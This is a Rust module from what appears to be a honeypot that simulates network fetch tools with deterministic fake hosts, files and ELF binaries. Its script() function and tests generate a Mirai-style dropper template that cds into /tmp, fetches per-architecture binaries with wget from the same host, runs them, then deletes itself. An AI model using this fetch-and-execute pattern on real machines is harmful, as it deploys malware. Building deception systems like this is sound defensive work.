//! The simulated outside world shared by `wget`, `curl`, `tftp`, `nc`, `scp` and `ping`.
//!
//! Nothing here touches the network. A URL is parsed as the tools parse it; then every fact
//! about the "remote" side is derived from a SHA-256 of the URL (or of the host name), so the
//! same URL always gives the same answer within and across sessions: whether the name
//! resolves (and to which made-up public address), whether the port answers, the HTTP status,
//! the file's size and bytes, and how long the transfer takes. Shell-script names get a
//! dropper-looking script that fetches more binaries from the same host; other names get
//! pseudo-random bytes behind an ELF header of the architecture the name mentions.
//!
//! Most hosts answer, so bots proceed: loopback and private addresses, names under reserved
//! TLDs and a third of unusual ports refuse. Saved files land in the VFS (`0644`, the user's,
//! mtime now); the time a transfer takes is added to `ctx.sys.pace_ms`.

use miragepot_vfs::{FsError, WriteMode};
use sha2::{Digest, Sha256};

use super::CmdCtx;
use crate::{Download, Observation};

/// Longest URL kept in an observation.
const MAX_URL_NOTE: usize = 2048;
/// Simulated time one transfer may add, at most (ms).
const MAX_PACE_MS: u64 = 30_000;

/// A parsed URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Url {
    /// `http`, `https`, `ftp` or `tftp`.
    pub scheme: String,
    /// Host name or address, lower case.
    pub host: String,
    /// Port (explicit or the scheme's default).
    pub port: u16,
    /// Path with query, starting with `/`.
    pub path: String,
}

/// Why a URL did not parse.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum UrlError {
    /// A scheme the tool does not speak.
    Scheme(String),
    /// Empty or malformed host.
    Host,
    /// Port not a number in 1..=65535.
    Port,
}

/// Default port of a scheme.
pub(crate) fn default_port(scheme: &str) -> u16 {
    match scheme {
        "https" => 443,
        "ftp" => 21,
        "tftp" => 69,
        _ => 80,
    }
}

/// Parses `url`; a URL without `scheme://` is taken as `http://` (as wget and curl do).
/// `schemes` lists what the tool supports.
pub(crate) fn parse_url(url: &str, schemes: &[&str]) -> Result<Url, UrlError> {
    let url = url.trim();
    let (scheme, rest) = match url.split_once("://") {
        Some((s, r))
            if !s.is_empty()
                && s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) =>
        {
            (s.to_ascii_lowercase(), r)
        }
        _ => ("http".to_string(), url),
    };
    if !schemes.contains(&scheme.as_str()) {
        return Err(UrlError::Scheme(scheme));
    }
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at(end);
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let (host, port) = match hostport.rsplit_once(':') {
        Some((h, p)) if !h.ends_with(']') || hostport.starts_with('[') => (h, Some(p)),
        _ => (hostport, None),
    };
    let host = host.trim_start_matches('[').trim_end_matches(']');
    if host.is_empty()
        || host.len() > 253
        || !host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-._:".contains(c))
    {
        return Err(UrlError::Host);
    }
    let port = match port {
        None | Some("") => default_port(&scheme),
        Some(p) => match p.parse::<u16>() {
            Ok(n) if n > 0 && p.chars().all(|c| c.is_ascii_digit()) => n,
            _ => return Err(UrlError::Port),
        },
    };
    let path = path.split('#').next().unwrap_or("");
    let path = if path.starts_with('/') {
        path.to_string()
    } else {
        format!("/{path}")
    };
    Ok(Url {
        scheme,
        host: host.to_ascii_lowercase(),
        port,
        path,
    })
}

impl Url {
    /// The URL as the tools print it back (`http://host:port/path`, default port left out).
    pub(crate) fn display(&self) -> String {
        if self.port == default_port(&self.scheme) {
            format!("{}://{}{}", self.scheme, self.host, self.path)
        } else {
            format!("{}://{}:{}{}", self.scheme, self.host, self.port, self.path)
        }
    }

    /// The last path component without the query (`bins.sh`), possibly empty.
    pub(crate) fn file_name(&self) -> &str {
        let p = self.path.split('?').next().unwrap_or("");
        p.rsplit('/').next().unwrap_or("")
    }
}

/// SHA-256 of `parts` joined with NULs, as eight little-endian words.
fn hash(parts: &[&str]) -> [u64; 4] {
    let mut h = Sha256::new();
    for p in parts {
        h.update(p.as_bytes());
        h.update([0]);
    }
    let d = h.finalize();
    let mut out = [0u64; 4];
    for (o, chunk) in out.iter_mut().zip(d.chunks(8)) {
        let mut b = [0u8; 8];
        for (x, y) in b.iter_mut().zip(chunk) {
            *x = *y;
        }
        *o = u64::from_le_bytes(b);
    }
    out
}

/// A literal IPv4 address.
pub(crate) fn ipv4(host: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = host.split('.');
    for o in &mut out {
        *o = parts.next()?.parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

/// Where a host name resolves: literal addresses as they are, `localhost` to loopback,
/// names under reserved or local TLDs (and bare words) to nothing, any other name to a
/// made-up public address derived from it.
pub(crate) fn resolve(host: &str) -> Option<String> {
    if ipv4(host).is_some() || host.contains(':') {
        return Some(host.to_string());
    }
    if host == "localhost" {
        return Some("127.0.0.1".into());
    }
    let tld = host.trim_end_matches('.').rsplit('.').next().unwrap_or("");
    let reserved = [
        "invalid",
        "test",
        "local",
        "localhost",
        "internal",
        "lan",
        "home",
        "corp",
        "localdomain",
    ];
    if !host.contains('.') || reserved.contains(&tld) || tld.chars().all(|c| c.is_ascii_digit()) {
        return None;
    }
    let h = hash(&["ip", host]);
    const FIRST: [u8; 16] = [
        23, 45, 62, 77, 85, 91, 103, 104, 139, 146, 151, 159, 176, 185, 193, 213,
    ];
    let first = FIRST.get((h[0] % 16) as usize).copied().unwrap_or(185);
    let b = h[1].to_le_bytes();
    let (b1, b2, b3) = (
        b.first().copied().unwrap_or(1),
        b.get(1).copied().unwrap_or(1),
        b.get(2).copied().unwrap_or(1),
    );
    Some(format!("{first}.{b1}.{b2}.{}", 1 + b3 % 253))
}

/// Whether an address is one nothing answers on from here (loopback, private, reserved).
fn unreachable(ip: &str) -> bool {
    match ipv4(ip) {
        Some([a, b, ..]) => {
            a == 0
                || a == 10
                || a == 127
                || a >= 224
                || (a == 172 && (16..32).contains(&b))
                || (a == 192 && b == 168)
                || (a == 169 && b == 254)
        }
        None => ip.starts_with("::1") || ip.starts_with("fe80"),
    }
}

/// How a connection attempt to `ip:port` goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Reach {
    /// The port answers.
    Open,
    /// RST: connection refused.
    Refused,
}

/// Whether `ip:port` answers. Usual service ports on public addresses always do.
pub(crate) fn reach(ip: &str, port: u16) -> Reach {
    const COMMON: [u16; 14] = [
        21, 22, 23, 53, 69, 80, 443, 8000, 8080, 8081, 8443, 8888, 9000, 3000,
    ];
    if unreachable(ip) {
        return Reach::Refused;
    }
    if COMMON.contains(&port) || !hash(&["port", ip, &port.to_string()])[0].is_multiple_of(3) {
        Reach::Open
    } else {
        Reach::Refused
    }
}

/// Milliseconds from the SYN to the connection (or the refusal), per host.
pub(crate) fn latency_ms(ip: &str) -> u64 {
    if ipv4(ip).is_some_and(|[a, ..]| a == 127) {
        return 0;
    }
    15 + hash(&["rtt", ip])[0] % 220
}

/// Milliseconds a name lookup takes.
pub(crate) fn dns_ms(host: &str) -> u64 {
    if ipv4(host).is_some() {
        0
    } else {
        4 + hash(&["dns", host])[0] % 60
    }
}

/// What kind of file a name suggests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A shell script (`*.sh`, `*.bash`).
    Script,
    /// A directory index (`/`).
    Index,
    /// Anything else: a binary.
    Binary,
}

/// The remote file behind a URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Remote {
    /// HTTP status (200 or 404).
    pub status: u16,
    /// What it is.
    pub kind: Kind,
    /// Its bytes.
    pub body: Vec<u8>,
    /// Transfer speed, bytes per second.
    pub rate: u64,
}

impl Remote {
    /// The `Content-Type` the server sends.
    pub(crate) fn content_type(&self) -> &'static str {
        match (self.status, self.kind) {
            (404, _) | (_, Kind::Index) => "text/html",
            (_, Kind::Script) => "application/x-sh",
            _ => "application/octet-stream",
        }
    }

    /// Seconds the body takes to arrive.
    pub(crate) fn secs(&self) -> f64 {
        self.body.len() as f64 / self.rate.max(1) as f64
    }
}

/// The file `url` names on a host that answers.
pub(crate) fn fetch(url: &Url) -> Remote {
    let h = hash(&["file", &url.host, &url.path]);
    let name = url.file_name().to_ascii_lowercase();
    let page = [
        ".html", ".htm", ".php", ".asp", ".aspx", ".jsp", ".txt", ".json", ".xml",
    ];
    let kind = if name.is_empty() || page.iter().any(|e| name.ends_with(e)) {
        Kind::Index
    } else if [".sh", ".bash"].iter().any(|e| name.ends_with(e)) {
        Kind::Script
    } else {
        Kind::Binary
    };
    let rate = 150_000 + hash(&["bw", &url.host])[0] % 4_000_000;
    if kind != Kind::Script && h[1].is_multiple_of(25) {
        return Remote {
            status: 404,
            kind,
            body: not_found(&url.path).into_bytes(),
            rate,
        };
    }
    let body = match kind {
        Kind::Script => script(url, h),
        Kind::Index => index(url, h),
        Kind::Binary => binary(&name, h),
    };
    Remote {
        status: 200,
        kind,
        body,
        rate,
    }
}

/// The 404 page of a stock web server.
fn not_found(path: &str) -> String {
    let path: String = path.chars().take(200).collect();
    format!(
        "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n<p>The requested URL {path} was not found on this server.</p>\n</body></html>\n"
    )
}

/// A short directory listing page.
fn index(url: &Url, h: [u64; 4]) -> Vec<u8> {
    let mut s = String::from(
        "<!DOCTYPE HTML>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>Directory listing for /</title>\n</head>\n<body>\n<h1>Directory listing for /</h1>\n<hr>\n<ul>\n",
    );
    let n = 2 + h[2] % 6;
    for (i, a) in ARCHS.iter().cycle().skip((h[3] % 8) as usize).enumerate() {
        if i as u64 >= n {
            break;
        }
        s.push_str(&format!("<li><a href=\"{a}\">{a}</a></li>\n"));
    }
    s.push_str("<li><a href=\"bins.sh\">bins.sh</a></li>\n</ul>\n<hr>\n</body>\n</html>\n");
    let _ = url;
    s.into_bytes()
}

/// Architecture names droppers use, as file names.
const ARCHS: [&str; 11] = [
    "x86", "x86_64", "arm", "arm5", "arm6", "arm7", "mips", "mpsl", "ppc", "sh4", "m68k",
];

/// A dropper script that fetches one binary per architecture from the same host.
fn script(url: &Url, h: [u64; 4]) -> Vec<u8> {
    const PREFIXES: [&str; 6] = ["", "bot.", "x.", "sys.", "k.", "."];
    let prefix = PREFIXES.get((h[0] % 6) as usize).copied().unwrap_or("");
    let dir = url.path.rsplit_once('/').map_or("", |(d, _)| d);
    let base = if url.port == default_port(&url.scheme) {
        format!("{}://{}{dir}", url.scheme, url.host)
    } else {
        format!("{}://{}:{}{dir}", url.scheme, url.host, url.port)
    };
    let tag = ["ssh", "root", "selfrep", "x", "scan"]
        .get((h[1] % 5) as usize)
        .copied()
        .unwrap_or("x");
    let mut s =
        String::from("#!/bin/sh\n\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\n\n");
    let n = 3 + (h[2] % 9) as usize;
    for a in ARCHS.iter().cycle().skip((h[3] % 11) as usize).take(n) {
        let f = format!("{prefix}{a}");
        s.push_str(&format!(
            "wget {base}/{f}; chmod +x {f}; ./{f} {tag}.{a}; rm -rf {f}\n"
        ));
        if s.len() > 3800 {
            break;
        }
    }
    s.push_str("\nrm -rf $0\n");
    if s.len() < 200 {
        s.push_str(&"#".repeat(200 - s.len()));
        s.push('\n');
    }
    s.into_bytes()
}

/// ELF class, byte order and machine for a file name that mentions an architecture
/// (x86-64 when none is recognisable).
fn arch_of(name: &str) -> (u8, bool, u16) {
    const TABLE: [(&str, u8, bool, u16); 21] = [
        ("x86_64", 2, false, 0x3e),
        ("amd64", 2, false, 0x3e),
        ("x64", 2, false, 0x3e),
        ("aarch64", 2, false, 183),
        ("arm64", 2, false, 183),
        ("mpsl", 1, false, 8),
        ("mipsel", 1, false, 8),
        ("mips", 1, true, 8),
        ("arm", 1, false, 40),
        ("i686", 1, false, 3),
        ("i586", 1, false, 3),
        ("i486", 1, false, 3),
        ("i386", 1, false, 3),
        ("x86", 1, false, 3),
        ("ppc", 1, true, 20),
        ("powerpc", 1, true, 20),
        ("sh4", 1, false, 42),
        ("m68k", 1, true, 4),
        ("sparc", 1, true, 2),
        ("spc", 1, true, 2),
        ("arc", 1, false, 195),
    ];
    TABLE
        .iter()
        .find(|(k, ..)| name.contains(k))
        .map_or((2, false, 0x3e), |&(_, c, be, m)| (c, be, m))
}

/// Pseudo-random bytes (mostly zeros, like a binary) after an ELF header for the name.
fn binary(name: &str, h: [u64; 4]) -> Vec<u8> {
    let size = 40 * 1024 + (h[2] % (860 * 1024)) as usize;
    let (class, be, machine) = arch_of(name);
    let mut out: Vec<u8> = Vec::with_capacity(size);
    out.extend_from_slice(&[0x7f, b'E', b'L', b'F', class, if be { 2 } else { 1 }, 1, 0]);
    out.extend_from_slice(&[0; 8]);
    let u16b = |v: u16| if be { v.to_be_bytes() } else { v.to_le_bytes() };
    let u32b = |v: u32| if be { v.to_be_bytes() } else { v.to_le_bytes() };
    out.extend_from_slice(&u16b(2)); // ET_EXEC
    out.extend_from_slice(&u16b(machine));
    out.extend_from_slice(&u32b(1));
    let entry = 0x0040_0000 + (h[3] % 0x1_0000) as u32;
    let shoff = (size as u32).saturating_sub(0x400);
    if class == 2 {
        let u64b = |v: u64| if be { v.to_be_bytes() } else { v.to_le_bytes() };
        out.extend_from_slice(&u64b(u64::from(entry)));
        out.extend_from_slice(&u64b(64));
        out.extend_from_slice(&u64b(u64::from(shoff)));
        out.extend_from_slice(&u32b(0));
        for v in [64u16, 56, 3, 64, 10, 9] {
            out.extend_from_slice(&u16b(v));
        }
    } else {
        out.extend_from_slice(&u32b(entry));
        out.extend_from_slice(&u32b(52));
        out.extend_from_slice(&u32b(shoff));
        out.extend_from_slice(&u32b(0));
        for v in [52u16, 32, 3, 40, 10, 9] {
            out.extend_from_slice(&u16b(v));
        }
    }
    // Whole words at a time (per-byte work is slow in debug builds): bytes without their
    // top bit become zero, so that it is mostly zeros and high values, like a binary.
    let mut state = h[0];
    while out.len() + 8 <= size {
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^= z >> 31;
        let keep = ((z & 0x8080_8080_8080_8080) >> 7).wrapping_mul(0xff);
        out.extend_from_slice(&(z & keep).to_le_bytes());
    }
    out.resize(size, 0);
    out
}

/// Simulated time one command line may spend on transfers; past it every further attempt
/// times out at once (a saturated link), which bounds the work an attacker's loop causes.
pub(crate) const BUDGET_MS: u64 = 120_000;

/// Whether the line has used up its transfer time (`extra`: time this command spent so far).
pub(crate) fn exhausted(ctx: &CmdCtx<'_>, extra: u64) -> bool {
    ctx.sys.pace_ms.saturating_add(extra) >= BUDGET_MS
}

/// Adds simulated time to the command line's pace (bounded per call).
pub(crate) fn pace(ctx: &mut CmdCtx<'_>, ms: u64) {
    ctx.sys.pace_ms = ctx.sys.pace_ms.saturating_add(ms.min(MAX_PACE_MS));
}

/// Writes a fetched file (`0644`, truncating an existing one) and returns its absolute path.
pub(crate) fn save(ctx: &mut CmdCtx<'_>, path: &str, data: &[u8]) -> Result<String, FsError> {
    let fctx = ctx.fs_ctx();
    ctx.fs
        .write(ctx.cwd, path, data, WriteMode::Truncate, 0o644, &fctx)?;
    Ok(ctx
        .fs
        .canonicalize(ctx.cwd, path)
        .unwrap_or_else(|_| miragepot_vfs::path::normalize(ctx.cwd, path)))
}

/// What one attempt came to, for the observation.
pub(crate) struct Attempt<'a> {
    /// The tool (`wget`, `curl`, ...).
    pub tool: &'a str,
    /// The URL as given.
    pub url: &'a str,
    /// Host, when the URL parsed.
    pub host: &'a str,
    /// Port.
    pub port: u16,
    /// Saved file (absolute).
    pub destination: Option<String>,
    /// Bytes transferred.
    pub size: Option<u64>,
    /// `saved`, `stdout`, `refused`, `dns_failed`, `bad_url` or `http_error`.
    pub outcome: &'a str,
}

/// Records a download observation.
pub(crate) fn note(ctx: &mut CmdCtx<'_>, a: Attempt<'_>) {
    ctx.note(Observation::Download(Download {
        tool: a.tool.to_string(),
        url: a.url.chars().take(MAX_URL_NOTE).collect(),
        host: a.host.chars().take(256).collect(),
        port: a.port,
        destination: a.destination,
        size: a.size,
        outcome: a.outcome.to_string(),
    }));
}

/// `YYYY-MM-DD HH:MM:SS` of the command's clock plus the line's simulated time so far plus
/// `ms`.
pub(crate) fn stamp(ctx: &CmdCtx<'_>, ms: u64) -> String {
    let ms = ms.saturating_add(ctx.sys.pace_ms);
    let t = ctx.now + time::Duration::milliseconds(i64::try_from(ms).unwrap_or(0));
    format!(
        "{:04}-{:02}-{:02} {:02}:{:02}:{:02}",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALL: &[&str] = &["http", "https", "ftp", "tftp"];

    #[test]
    fn urls_parse_like_the_tools() {
        let u = parse_url("http://198.51.100.7/bins.sh", ALL).unwrap();
        assert_eq!(
            (u.host.as_str(), u.port, u.path.as_str()),
            ("198.51.100.7", 80, "/bins.sh")
        );
        let u = parse_url("1.2.3.4:8080", ALL).unwrap();
        assert_eq!(
            (u.scheme.as_str(), u.port, u.path.as_str()),
            ("http", 8080, "/")
        );
        assert_eq!(parse_url("ftp://u:p@Host/x", ALL).unwrap().port, 21);
        assert_eq!(parse_url("https://h/", ALL).unwrap().port, 443);
        assert_eq!(
            parse_url("foo://x", ALL),
            Err(UrlError::Scheme("foo".into()))
        );
        assert_eq!(parse_url("http://", ALL), Err(UrlError::Host));
        assert_eq!(parse_url("http://a:99999/", ALL), Err(UrlError::Port));
        assert_eq!(parse_url("http://a:b/", ALL), Err(UrlError::Port));
        assert_eq!(
            parse_url("http://h:81/a/b?x", ALL).unwrap().file_name(),
            "b"
        );
    }

    #[test]
    fn the_world_is_deterministic() {
        assert_eq!(resolve("example.com"), resolve("example.com"));
        assert_eq!(resolve("nosuch.invalid"), None);
        assert_eq!(resolve("x"), None);
        assert_eq!(resolve("198.51.100.7").as_deref(), Some("198.51.100.7"));
        assert_eq!(reach("127.0.0.1", 80), Reach::Refused);
        assert_eq!(reach("198.51.100.7", 80), Reach::Open);
        let u = parse_url("http://198.51.100.7/bins.sh", ALL).unwrap();
        let a = fetch(&u);
        assert_eq!(a, fetch(&u));
        assert!((200..=4096).contains(&a.body.len()));
        assert!(a.body.starts_with(b"#!/bin/sh\n"));
        assert!(String::from_utf8_lossy(&a.body).contains("wget http://198.51.100.7/"));
        for (name, machine, be) in [("x86", 3u8, false), ("mips", 8, true), ("arm7", 40, false)] {
            let u = parse_url(&format!("http://198.51.100.7/{name}"), ALL).unwrap();
            let b = fetch(&u).body;
            assert!((40 * 1024..=900 * 1024).contains(&b.len()));
            assert_eq!(&b[..4], b"\x7fELF");
            assert_eq!(b[if be { 19 } else { 18 }], machine, "{name}");
        }
        let b = fetch(&parse_url("http://h.example.com/x86_64", ALL).unwrap()).body;
        assert_eq!(&b[18..20], &[0x3e, 0]);
    }
}
